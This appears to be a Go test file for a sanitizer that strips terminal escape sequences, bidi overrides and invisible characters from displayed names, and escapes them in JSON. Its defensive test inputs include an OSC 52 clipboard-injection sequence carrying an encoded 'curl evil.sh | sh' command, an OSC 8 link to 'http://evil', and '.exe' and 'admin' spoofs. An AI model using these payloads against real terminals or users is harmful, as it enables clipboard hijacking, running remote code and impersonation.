package sanitize

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTextStripsHostileNames(t *testing.T) {
	const r = string(Replacement)
	tests := []struct{ name, in, want string }{
		{"plain", "ops/tw-sre-jump", "ops/tw-sre-jump"},
		{"unicode kept", "données-Zürich-東京", "données-Zürich-東京"},
		{"colour", "\x1b[31madmin\x1b[0m", r + "admin" + r},
		{"clear screen and home", "x\x1b[2J\x1b[Hy", "x" + r + r + "y"},
		{"cursor up with private params", "a\x1b[?25lb", "a" + r + "b"},
		{"osc title BEL", "\x1b]0;pwned\x07role", r + "role"},
		{"osc 52 clipboard ST", "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\role", r + "role"},
		{"osc 8 hyperlink", "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\", r + "click" + r},
		{"dcs", "\x1bPq#0;2;0;0;0\x1b\\x", r + "x"},
		{"apc", "\x1b_Gf=100;AAAA\x1b\\x", r + "x"},
		{"two-char escape", "a\x1bcb", "a" + r + "b"},
		{"charset designation", "a\x1b(0b", "a" + r + "b"},
		{"lone ESC at end", "role\x1b", "role" + r},
		{"unterminated osc", "role\x1b]52;c;AAAA", "role" + r},
		{"c1 csi", "a\u009b31mb", "a" + r + "b"},
		{"c1 osc with st", "a\u009d0;t\u009cb", "a" + r + "b"},
		{"c1 single", "a\u0085b", "a" + r + "b"},
		{"bell and backspace", "ad\bmin\a", "ad" + r + "min" + r},
		{"nul and del", "a\x00b\x7fc", "a" + r + "b" + r + "c"},
		{"newline and tab become spaces", "line1\nline2\tx\r", "line1 line2 x "},
		{"rlo override", "user\u202Egnp.exe", "user" + r + "gnp.exe"},
		{"bidi isolates", "\u2066a\u2067b\u2068c\u2069", r + "a" + r + "b" + r + "c" + r},
		{"bidi marks", "a\u200Eb\u200Fc\u061Cd", "a" + r + "b" + r + "c" + r + "d"},
		{"invalid utf8", "a\xffb", "a" + r + "b"},
		{"csi broken by newline", "a\x1b[3\nb", "a" + r + " b"},
		{"zero-width joiner impersonates", "u-zwadm\u200din", "u-zwadm" + r + "in"},
		{"zero-width space and non-joiner", "a\u200bb\u200cc", "a" + r + "b" + r + "c"},
		{"byte order mark", "\ufeffadmin", r + "admin"},
		{"soft hyphen", "ad\u00admin", "ad" + r + "min"},
		{"line and paragraph separators", "a\u2028b\u2029c", "a" + r + "b" + r + "c"},
		{"word joiner and invisible times", "a\u2060b\u2062c", "a" + r + "b" + r + "c"},
		{"tag characters", "admin\U000e0061\U000e007f", "admin" + r + r},
		{"hangul filler", "\u3164admin", r + "admin"},
		{"emoji and marks kept", "café ✓ 東京 e\u0301", "café ✓ 東京 e\u0301"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Text(tc.in)
			if got != tc.want {
				t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
			}
			assertSafe(t, got)
			if Text(got) != got {
				t.Errorf("not idempotent: %q", got)
			}
		})
	}
}

// assertSafe fails if s holds anything a terminal would act on.
func assertSafe(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("invalid UTF-8 in %q", s)
	}
	for _, r := range s {
		if r < 0x20 || (r >= 0x7f && r <= 0x9f) || isHidden(r) {
			t.Errorf("control or hidden character %U left in %q", r, s)
		}
	}
}

func TestTextCleanDoesNotAllocate(t *testing.T) {
	s := strings.Repeat("arn:aws:iam::210987654321:role/ops/tw-sre-jump ", 4) + "Zürich"
	if n := testing.AllocsPerRun(100, func() { _ = Text(s) }); n != 0 {
		t.Errorf("%v allocations for clean text", n)
	}
}

// FuzzText: whatever a string holds, Text leaves nothing a terminal acts on, and cleaning
// clean text changes nothing.
func FuzzText(f *testing.F) {
	for _, s := range []string{"\x1b]52;c;AAAA\x07", "\u009b1m", "\u202e", "a\x1b[", "\x1bP\x1b\\"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Text(s)
		assertSafe(t, got)
		if Text(got) != got {
			t.Errorf("not idempotent: %q -> %q -> %q", s, got, Text(got))
		}
	})
}

func TestJSONEscapesWhatTerminalsActOn(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`{"a":"plain é — ✓"}`, `{"a":"plain é — ✓"}`},
		{"{\"a\":\"x\x7fy\"}", `{"a":"x\u007fy"}`},
		{"[\"\u009b31m\u009d52;c;QQ==\u009c\"]", `["\u009b31m\u009d52;c;QQ==\u009c"]`},
		{"\"abc\u202egpj.exe \u2066x\u2069 \u200f \u061c\"", `"abc\u202egpj.exe \u2066x\u2069 \u200f \u061c"`},
		{"\"u-zwadm\u200din \ufeff \u00ad \u200b\"", `"u-zwadm\u200din \ufeff \u00ad \u200b"`},
		{"\"tag\U000e0061\"", `"tag\udb40\udc61"`},
	} {
		got := string(JSON([]byte(c.in)))
		if got != c.want {
			t.Errorf("JSON(%q) = %q, want %q", c.in, got, c.want)
		}
		var a, b any
		if json.Unmarshal([]byte(c.in), &a) != nil || json.Unmarshal([]byte(got), &b) != nil || !reflect.DeepEqual(a, b) {
			t.Errorf("JSON(%q) = %q does not mean the same", c.in, got)
		}
	}
}

// FuzzJSON: whatever a string holds, its JSON passed through JSON still decodes to the same
// string, and holds nothing raw that a terminal acts on.
func FuzzJSON(f *testing.F) {
	for _, s := range []string{"\x1b]52;c;AAAA\x07", "\u009b1m\x7f", "\u202e\u2066\u200f\u061c", "plain", "\xff\xfe", "é—✓", "\u200d\u00ad\ufeff\U000e0061"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b, err := json.Marshal(map[string][]string{s: {s, "x" + s}})
		if err != nil {
			t.Fatal(err)
		}
		out := JSON(b)
		var back, want map[string][]string
		if err := json.Unmarshal(out, &back); err != nil {
			t.Fatalf("JSON(%q) is not JSON: %v", b, err)
		}
		if err := json.Unmarshal(b, &want); err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(back, want) {
			t.Fatalf("JSON(%q) = %q decodes otherwise", b, out)
		}
		for _, r := range string(out) {
			if r < 0x20 || r == 0x7f || (r >= 0x80 && r <= 0x9f) || isHidden(r) {
				t.Fatalf("JSON(%q) = %q holds U+%04X raw", b, out, r)
			}
		}
	})
}
